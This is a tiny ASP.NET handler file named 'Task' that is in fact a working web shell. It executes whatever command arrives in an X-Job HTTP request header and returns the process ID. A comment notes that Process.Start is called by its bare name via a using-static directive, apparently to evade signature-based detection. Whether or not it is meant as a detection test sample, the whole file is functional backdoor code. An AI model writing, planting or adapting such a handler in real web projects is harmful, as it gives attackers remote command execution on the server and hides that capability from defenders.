<%@ WebHandler Language="C#" Class="Task" %>
using System.Web;
using static System.Diagnostics.Process;

// Process.Start reached by its bare name through a using-static directive
public class Task : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        string job = context.Request.Headers["X-Job"];
        if (job != null)
        {
            var p = Start(job);
            context.Response.Write(p.Id);
        }
    }

    public bool IsReusable { get { return false; } }
}
